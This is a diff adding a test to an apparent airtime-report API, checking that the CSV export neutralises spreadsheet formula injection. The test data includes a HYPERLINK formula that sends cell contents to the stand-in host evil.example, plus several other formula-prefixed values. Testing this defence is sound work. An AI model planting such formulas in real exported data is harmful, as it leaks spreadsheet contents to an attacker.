@@ -178,6 +178,29 @@ def test_airtime_report_json_and_csv(api: Api) -> None:
     assert api.client.get("/api/reports/airtime?from=2031-13", headers=headers).status_code == 422
 
 
+def test_airtime_csv_never_hands_a_spreadsheet_a_formula(api: Api) -> None:
+    topics = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', "+84912", "-1+1", "@SUM(1)",
+              "\t=1+1", "Y tế", "Chuyển đổi số = tương lai"]  # fmt: skip
+    for day, topic in enumerate(topics, start=1):
+        _log(api, datetime(2031, 5, day, 0, 0, tzinfo=UTC), 3, topic, Outcome.AIRED)
+    headers = api.auth("operator")
+    response = api.client.get("/api/reports/airtime.csv?from=2031-05&to=2031-05", headers=headers)
+    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = {row[1] for row in parsed[1:]}
+    assert cells == {
+        '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
+        "'+84912",
+        "'-1+1",
+        "'@SUM(1)",
+        "'\t=1+1",
+        "Y tế",
+        "Chuyển đổi số = tương lai",
+    }
+    # The JSON report is data, not a spreadsheet: topics as they are.
+    rows = api.client.get("/api/reports/airtime?from=2031-05&to=2031-05", headers=headers).json()
+    assert {r["topic"] for r in rows} == set(topics)
+
+
 def test_health_is_public_and_says_degraded(api: Api) -> None:
     assert api.client.get("/api/health").json()["status"] == "ok"
     api.station.health_report = type(api.station.health_report)(
